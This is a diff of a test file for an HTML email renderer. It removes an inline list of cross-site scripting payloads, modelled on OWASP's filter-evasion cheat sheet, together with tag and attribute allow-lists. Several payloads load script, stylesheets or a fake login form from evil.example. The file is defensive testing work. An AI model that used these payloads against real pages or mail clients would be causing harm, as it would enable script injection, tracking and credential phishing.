@@ -1,9 +1,8 @@
 import { createHash } from 'node:crypto';
 import { builtInVariables } from '@atelier/sdk/smart-files';
 import { describe, expect, it } from 'vitest';
-import { dangersIn, payloads } from '../testing/hostile';
-import { writeMail } from './mail-text';
 import { mailContentTexts } from '../sending/mail-content';
+import { dangersIn, payloads } from '../testing/hostile';
 import { renderMail } from './render-mail';
 
 const setting = {
@@ -27,68 +26,9 @@ describe('a mail', () => {
   it.each(payloads)('holds nothing that runs or loads: %s', (payload) => {
     const { html } = write(`<p>Before</p>${payload}<p>after</p>`);
     expect(dangersIn(html)).toEqual([]);
-    expect(html.match(/<meta/g)).toHaveLength(2);
-/** The kinds of OWASP's cheat sheet on filter evasion. */
-const payloads = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
-  '"><script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
-  '<svg onload=alert(1)>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="https://a.example" onclick="alert(1)">x</a>',
-  '<form action="https://evil.example"><input type=password><button>Sign in</button></form>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror="alert(1)"></video>',
-  '<body onload=alert(1) background="https://evil.example/x.gif">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<style>@import url(//evil.example/x.css);</style>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="//evil.example/">',
-  '<div style="background:url(https://evil.example/x.gif)">x</div>',
-  '<!--><script>alert(1)</script-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '</div></body></html><script>alert(1)</script>',
-  '{{constructor.constructor}}',
-  '{{preset.hostile}}',
-];
-const TAGS = new Set(
-  ['html', 'head', 'meta', 'title', 'style', 'body', 'div', 'p', 'h2', 'ul', 'li', 'blockquote'].concat([
-    'strong',
-    'em',
-    'br',
-    'a',
-  ]),
-);
-const ATTRIBUTES = new Set(['lang', 'class', 'charset', 'name', 'content', 'style', 'href', 'rel']);
-
-describe('a mail', () => {
-  it.each(payloads)('holds nothing that runs or loads: %s', (payload) => {
-    const { html } = write(`<p>Before</p>${payload}<p>after</p>`);
-    for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z0-9!]+)((?:\s+[^<>]*)?)>/gi)) {
-      if (name.startsWith('!')) continue;
-      expect(TAGS).toContain(name);
-      for (const [, attribute] of attributes.matchAll(/([a-z-]+)="[^"]*"/g))
-        expect(ATTRIBUTES).toContain(attribute);
-      // The looks are those of the frame; nothing of what was written has one.
-      expect(attributes).not.toMatch(/url\(|onerror|javascript:|data:/i);
-    }
     expect(html.match(/<meta/g)).toHaveLength(4);
     expect(html.match(/<style/g)).toHaveLength(1);
     expect(html).toContain('Before');
-    for (const [, link = ''] of html.matchAll(/href="([^"]*)"/g))
-      expect(link).toMatch(/^(https:|mailto:|tel:)/);
   });
 
   it('keeps what people write: emphasis, lists, safe links', () => {
